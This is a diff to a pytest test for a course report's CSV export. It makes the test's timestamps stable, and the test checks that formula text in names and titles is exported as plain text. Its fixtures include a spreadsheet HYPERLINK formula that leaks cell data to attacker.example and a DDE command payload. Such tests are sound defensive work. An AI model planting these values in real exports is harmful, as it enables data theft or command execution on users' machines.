@@ -15,6 +15,8 @@ from tests.conftest import job_row, make_user
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open the report")'
 TITLE = "+cmd|' /C calc'!A0"
+# A whole day in the past, so the report's day holds the record at whatever time the suite runs.
+NOON_YESTERDAY = timezone.localtime().replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=1)
 
 
 @pytest.fixture
@@ -33,7 +35,7 @@ def test_formula_text_in_names_and_titles_is_exported_as_text_not_as_a_formula(
     assignment.title = start + TITLE[1:]
     assignment.save(update_fields=["title"])
     job = job_row(hostile_student, assignment)
-    submitted = timezone.now() - timedelta(hours=1)
+    submitted = NOON_YESTERDAY
     UsageRecord.objects.create(
         cluster="lab",
         slurm_job_id="7001",
@@ -50,9 +52,9 @@ def test_formula_text_in_names_and_titles_is_exported_as_text_not_as_a_formula(
         ingested_at=timezone.now(),
     )
     client.force_login(instructor)
-    today = timezone.localdate()
+    day = NOON_YESTERDAY.date()
 
-    response = client.get(reverse("reports:course-report-csv", args=["cs101"]), {"first": today, "last": today})
+    response = client.get(reverse("reports:course-report-csv", args=["cs101"]), {"first": day, "last": day})
 
     assert response.status_code == 200
     rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
